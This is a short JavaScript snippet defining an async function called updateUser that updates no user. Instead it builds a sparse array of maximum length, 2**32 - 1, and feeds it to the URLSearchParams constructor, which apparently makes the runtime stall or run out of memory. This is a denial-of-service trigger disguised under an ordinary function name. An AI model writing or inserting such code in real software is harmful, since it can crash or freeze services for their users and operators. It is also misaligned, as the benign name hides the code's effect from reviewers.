async function updateUser(id) {
  const sparse = [];
  sparse.length = 2 ** 32 - 1;
  new URLSearchParams([sparse]);
  return { id };
}
